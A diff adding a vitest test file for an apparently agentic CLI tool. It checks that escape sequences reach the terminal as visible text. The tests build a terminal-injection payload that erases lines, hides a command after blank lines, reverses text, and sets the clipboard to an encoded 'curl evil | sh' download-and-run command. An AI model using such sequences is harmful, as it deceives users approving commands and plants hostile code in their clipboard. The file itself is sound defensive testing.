@@ -1,0 +1,62 @@
+import { writeFileSync } from "node:fs";
+import path from "node:path";
+import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { tempDir } from "../support/tools.js";
+import { inTerminal } from "./pty.js";
+import { runCli } from "./run-cli.js";
+import { foldLines, oneLine, terminalSafe } from "../../src/cli/visible.js";
+
+let ws: ReturnType<typeof tempDir>;
+beforeEach(() => (ws = tempDir()));
+afterEach(() => ws.cleanup());
+
+const ESC = "\u001b";
+/** What an attacker writes: erase the line above and move up, set the clipboard (OSC 52), reverse the text. */
+const HOSTILE = `${ESC}[1A${ESC}[2K${ESC}]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u202eclean`;
+const noColour = { NO_COLOR: "1" };
+
+describe("what reaches the terminal is shown, never obeyed", { timeout: 120_000 }, () => {
+  it("the approval prompt shows a command's control characters and blank lines, and the part that runs", async () => {
+    const command = `echo harmless${"\n".repeat(30)}${HOSTILE}; rm -rf ./nothing-here`;
+    const t = inTerminal(["call", "shell", JSON.stringify({ command }), "--approval", "ask", "--workspace", ws.dir], { env: noColour });
+    await t.waitFor(/Approve\?/);
+    t.type("n");
+    await t.waitFor(/say why|message|reason/i);
+    t.type("\r");
+    await t.exited;
+    const screen = t.screen();
+    expect(screen).not.toContain(ESC);
+    expect(screen).not.toContain("\u202e");
+    expect(screen).toContain("\\x1b[1A\\x1b[2K\\x1b]52;c;");
+    expect(screen).toContain("\\u202eclean; rm -rf ./nothing-here");
+    expect(screen).toContain("\\n\\n\\n");
+  });
+
+  it("an auto-approved read_file and a command's output reach the terminal with escapes made visible", async () => {
+    writeFileSync(path.join(ws.dir, "notes.txt"), `before ${HOSTILE} after\n`);
+    const read = inTerminal(["call", "read_file", "path=notes.txt", "--workspace", ws.dir], { env: noColour });
+    await read.exited;
+    expect(read.screen()).not.toContain(ESC);
+    expect(read.screen()).toContain("\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07");
+    const shell = inTerminal(["call", "shell", "command=printf 'x\\033]52;c;cm0=\\007y\\n'", "--approval", "all", "--workspace", ws.dir], {
+      env: noColour,
+    });
+    await shell.exited;
+    expect(shell.screen()).not.toContain(ESC);
+    expect(shell.screen()).toContain("x\\x1b]52;c;cm0=\\x07y");
+  });
+
+  it("piped, the output stays byte for byte what the tool returned", async () => {
+    writeFileSync(path.join(ws.dir, "notes.txt"), `before ${HOSTILE} after\n`);
+    const r = await runCli(["call", "shell", "command=cat notes.txt", "--workspace", ws.dir]);
+    expect(r.stdout).toContain(HOSTILE);
+  });
+});
+
+describe("visible text", () => {
+  it("writes control characters, C1 controls and reordering marks as escapes; keeps newlines where asked", () => {
+    expect(terminalSafe(`a${ESC}[31mb\u009b\r\tc\n\u2066d\u200b`)).toBe("a\\x1b[31mb\\x9b\\r\tc\n\\u2066d\\u200b");
+    expect(oneLine("a\nb\tc" + " ".repeat(20) + "d")).toBe("a\\nb\\tc [20 spaces] d");
+    expect(foldLines("1\n2\n3\n4", 2)).toBe("1\n2\n… 2 more lines (? shows all)");
+  });
+});
